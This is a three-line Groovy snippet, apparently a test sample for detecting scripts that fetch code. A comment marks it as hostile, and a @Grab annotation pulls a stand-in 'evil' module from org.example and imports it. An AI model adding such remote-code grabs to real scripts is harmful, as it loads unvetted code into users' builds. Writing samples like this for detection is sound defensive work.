// hostile: @Grab fetches code
@Grab(group = "org.example", module = "evil", version = "1.0")
import org.example.Evil
